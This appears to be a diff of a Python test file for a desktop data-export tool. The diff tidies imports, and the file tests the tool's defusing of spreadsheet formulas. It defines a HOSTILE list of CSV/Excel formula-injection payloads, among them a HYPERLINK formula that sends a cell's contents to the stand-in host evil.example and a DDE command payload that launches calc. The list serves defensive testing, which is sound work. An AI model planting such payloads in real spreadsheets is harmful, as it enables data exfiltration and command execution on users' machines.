@@ -18,18 +18,16 @@ import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
+from conftest import ROOT
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from persona_desktop.core import safe_write, xlsx
 from persona_desktop.core.errors import DataError
 from persona_desktop.core.export import save_figure, write_csv
-from persona_desktop.core.pipeline import inspect_file
 from persona_desktop.core.progress import Cancelled, Progress
 from persona_desktop.core.safe_write import FORMULA_STARTS, defuse_formula
 from persona_desktop.core.xlsx import MAX_SHEET_ROWS, sheet_title, write_workbook
-
-from conftest import ROOT
 
 SAMPLE = ROOT / "resources" / "sample" / "online_retail_sample.csv"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
